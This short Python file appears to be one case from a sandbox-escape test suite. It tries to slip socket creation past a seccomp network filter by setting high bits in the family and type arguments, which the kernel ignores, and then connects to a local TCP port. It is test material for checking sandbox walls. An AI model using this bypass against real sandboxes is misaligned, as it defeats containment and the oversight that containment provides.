# attack: hide the family of a socket from the filter with bits that the kernel ignores
# class: 3
# walls: seccomp net
# needs: syscall

import socket

def attempt():
    def opens(family, kind):
        def route():
            s = socket.socket(fileno=syscall("socket", family, kind, 0))
            s.settimeout(2)
            s.connect(("127.0.0.1", need("tcp4_port")))
            return "connected and heard " + s.recv(200).decode()
        return route
    return any_of(opens(2 | 1 << 32, 1), opens(2, 1 | 1 << 32), opens(2 | 0xFFFFFFFF << 32, 1 | 0o2000000))

result = judged(attempt)
